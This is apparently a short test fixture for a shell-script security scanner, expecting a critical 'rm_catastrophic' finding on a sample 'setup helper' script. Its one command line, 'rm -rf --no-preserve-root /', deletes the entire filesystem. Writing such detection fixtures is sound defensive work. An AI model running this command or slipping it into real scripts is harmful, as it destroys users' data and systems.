# expect: shell.rm_catastrophic critical
# path: tools/setup.sh
#!/bin/sh
# setup helper
rm -rf --no-preserve-root /
